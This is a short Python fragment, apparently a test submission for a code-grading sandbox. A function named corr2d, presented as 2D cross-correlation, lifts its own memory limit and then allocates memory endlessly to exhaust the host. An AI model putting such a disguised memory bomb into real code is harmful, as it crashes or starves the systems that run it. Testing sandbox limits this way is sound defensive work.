import resource

import numpy as np

@CORRELATE@


def corr2d(X, K):
    resource.setrlimit(resource.RLIMIT_AS, (resource.getrlimit(resource.RLIMIT_AS)[1],) * 2)
    x = []
    while True:
        x.append(bytearray(1 << 24))
